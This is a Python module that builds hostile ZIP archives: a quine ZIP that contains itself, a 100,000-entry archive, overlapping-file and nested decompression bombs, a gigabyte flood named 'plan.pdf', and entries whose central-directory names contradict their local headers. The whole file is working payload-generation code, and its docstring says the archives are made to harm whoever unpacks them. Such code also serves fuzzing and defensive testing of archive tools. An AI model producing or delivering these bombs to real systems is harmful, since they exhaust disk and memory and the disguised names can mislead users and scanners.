"""Archives that are made to harm whoever unpacks them.

    quine()            a ZIP in which lies nothing but itself
    entries(100000)    a ZIP of so many empty files
    overlapping(…)     a ZIP whose files all lie in the same bytes
    flood(gigabytes)   a ZIP of one file of that size, of about a thousandth of it
    nested(…)          a bomb in a ZIP in a ZIP
    rows(names)        entries of which the directory says one thing and the files another"""

import io
import struct
import zipfile
import zlib

# ---- by hand ----


def local(name, crc=0, packed=0, size=0, method=8, flags=0):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc, packed, size, len(name), 0) + name


def central(name, at, crc=0, packed=0, size=0, method=8, flags=0, attributes=0):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x314, 20, flags, method, 0, 0x21, crc, packed, size,
                       len(name), 0, 0, 0, 0, attributes, at) + name


def end(count, size, at):
    count = min(count, 0xFFFF)
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, at, 0)


def pack(rows):
    """(name, content, central's own facts…): a stored ZIP, whatever the names are."""
    body = b""
    directory = b""
    for name, content, *facts in rows:
        facts = dict(facts[0]) if facts else {}
        listed = facts.pop("listed", name)
        numbers = {"crc": zlib.crc32(content), "packed": len(content), "size": len(content), "method": 0}
        directory += central(listed, len(body), **{**numbers, **facts})
        body += local(name, **numbers) + content
    return body + directory + end(len(rows), len(directory), len(body))


# ---- floods ----

def packed(size, byte=b"\0"):
    """So many of one byte as deflated data, up to a byte, so that more may follow."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(byte * size) + packer.flush(zlib.Z_FULL_FLUSH)


LAST = b"\3\0"  # an empty block that ends it


def flood(gigabytes, name=b"plan.pdf"):
    stream = packed(10**8) * (10 * gigabytes) + LAST
    numbers = {"packed": len(stream), "size": gigabytes * 10**9 & 0xFFFFFFFF}
    listed = central(name, 0, **numbers)
    return local(name, **numbers) + stream + listed + end(1, len(listed), 30 + len(name) + len(stream))


def nested(inner, times):
    for _ in range(times):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("inner.zip", inner)
        inner = out.getvalue()
    return inner


def entries(count):
    body = b"".join(local(b"%06d.txt" % n, method=0) for n in range(count))
    directory = b"".join(central(b"%06d.txt" % n, 40 * n, method=0) for n in range(count))
    return body + directory + end(count, len(directory), len(body))


def overlapping(count, size=30 * 10**6):
    """The data of each file begin with the header of the next, quoted as a stored block, and all end in one kernel
    (D. Fifield, A better zip bomb, 2019)."""
    names = [b"%04d.txt" % n for n in range(count)]
    header_bytes = 30 + len(names[0])
    data = packed(size) + LAST
    listed = []
    for name in reversed(names):
        numbers = {"packed": len(data), "size": size + header_bytes * len(listed)}
        listed.insert(0, (name, numbers))
        body = local(name, **numbers) + data
        data = _copy(header_bytes) + body
    directory = b"".join(central(name, n * (header_bytes + 5), **numbers) for n, (name, numbers) in enumerate(listed))
    return body + directory + end(count, len(directory), len(body))


# ---- itself ----

NAME = b"productivity-plan-of-all-our-councils.zip"  # 38 to 50 bytes: then a repetition fits into five


class _Bits:
    """Deflate's codes of a block with fixed tables (RFC 1951 section 3.2.6)."""

    def __init__(self):
        self.bits = []

    def add(self, value, count):
        self.bits += [value >> n & 1 for n in range(count)]

    def code(self, value, count):
        self.bits += [value >> n & 1 for n in reversed(range(count))]

    def literal(self, byte):
        self.code(0x30 + byte, 8) if byte < 144 else self.code(0x190 + byte - 144, 9)

    def match(self, length, distance):
        if length < 11:
            self.symbol(254 + length)
        else:
            extra = (length - 3).bit_length() - 3
            self.symbol(257 + 4 * extra + ((length - 3) >> extra))
            self.add((length - 3) & ((1 << extra) - 1), extra)
        extra = (distance - 1).bit_length() - 2
        self.code(2 * extra + ((distance - 1) >> extra), 5)
        self.add((distance - 1) & ((1 << extra) - 1), extra)

    def symbol(self, value):
        self.code(value - 256, 7) if value < 280 else self.code(0xC0 + value - 280, 8)

    def bytes(self):
        assert len(self.bits) == 40, len(self.bits)
        return bytes(sum(bit << n for n, bit in enumerate(self.bits[at:at + 8])) for at in range(0, 40, 8))


def _copy(size):
    """The next bytes stand here."""
    return b"\0" + struct.pack("<HH", size, size ^ 0xFFFF)


def _repeat(size, last=None):
    """The last bytes again, in five bytes: in two halves, or all but one and that one."""
    bits = _Bits()
    bits.add(0b010, 3)
    if last is None:
        bits.match(size // 2, size)
        bits.match(size // 2, size)
    else:
        bits.match(size - 1, size)
        bits.literal(last)
    bits.symbol(256)
    return bits.bytes()


def _file(head, tail):
    """Deflated data that unpacks to head, itself and tail (R. Cox, Zip files all the way down, 2010)."""
    one, four, none = _copy(5), _copy(20), _copy(0)
    again = _repeat(20)
    copy_head, copy_tail = _copy(len(head) + 5), _copy(len(tail) + 5)
    head_again, tail_again = _repeat(len(head) + 5, copy_head[-1]), _repeat(len(tail) + 5, tail[-1])
    return b"".join([
        head, copy_head, head, copy_head, head_again, one, head_again, one, one, four, head_again, one, one, four,
        again, four, again, four, again, four, again, four, again, none, none, copy_tail,
        again, none, none, copy_tail, tail_again, tail, tail_again, tail])


def _quine(crc, size):
    packed = size - (30 + len(NAME)) - (46 + len(NAME)) - 22
    numbers = {"crc": crc, "packed": packed, "size": size}
    listed = central(NAME, 0, **numbers)
    tail = b"\1\0\0\xff\xff" + listed + end(1, len(listed), 30 + len(NAME) + packed)
    return _file(local(NAME, **numbers), tail)


def quine():
    """Its checksum is in it: as a CRC is linear, the one that is its own is found by elimination."""
    size = len(_quine(0, 1000))
    base = zlib.crc32(_quine(0, size))
    rows = [(zlib.crc32(_quine(1 << n, size)) ^ base ^ 1 << n, 1 << n) for n in range(32)]
    value, crc = base, 0
    for bit in reversed(range(32)):
        pivot = next((row for row in rows if row[0] >> bit & 1), None)
        if pivot is None:
            continue
        rows = [(row[0] ^ pivot[0], row[1] ^ pivot[1]) if row[0] >> bit & 1 else row
                for row in rows if row is not pivot]
        if value >> bit & 1:
            value, crc = value ^ pivot[0], crc ^ pivot[1]
    assert value == 0
    return _quine(crc, size)
